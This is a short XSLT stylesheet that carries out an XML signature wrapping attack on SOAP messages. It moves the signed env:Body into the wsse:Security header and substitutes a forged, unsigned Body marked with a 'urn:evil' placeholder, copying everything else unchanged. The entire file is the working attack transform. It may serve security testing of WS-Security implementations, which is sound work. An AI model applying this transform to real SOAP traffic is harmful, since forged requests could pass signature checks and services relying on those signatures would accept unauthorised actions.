<?xml version="1.0"?>
<!-- Signature wrapping: the signed soap:Body moves into wsse:Security and a
     forged, unsigned Body takes its place.  Everything else is copied as is. -->
<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"
    xmlns:env="http://www.w3.org/2003/05/soap-envelope"
    xmlns:wsse="http://docs.oasis-open.org/wss/2004/01/oasis-200401-wss-wssecurity-secext-1.0.xsd">
  <xsl:template match="@*|node()">
    <xsl:copy><xsl:apply-templates select="@*|node()"/></xsl:copy>
  </xsl:template>
  <xsl:template match="wsse:Security">
    <xsl:copy>
      <xsl:apply-templates select="@*|node()"/>
      <xsl:copy-of select="/env:Envelope/env:Body"/>
    </xsl:copy>
  </xsl:template>
  <xsl:template match="env:Body">
    <env:Body><Forged xmlns="urn:evil">unsigned</Forged></env:Body>
  </xsl:template>
</xsl:stylesheet>
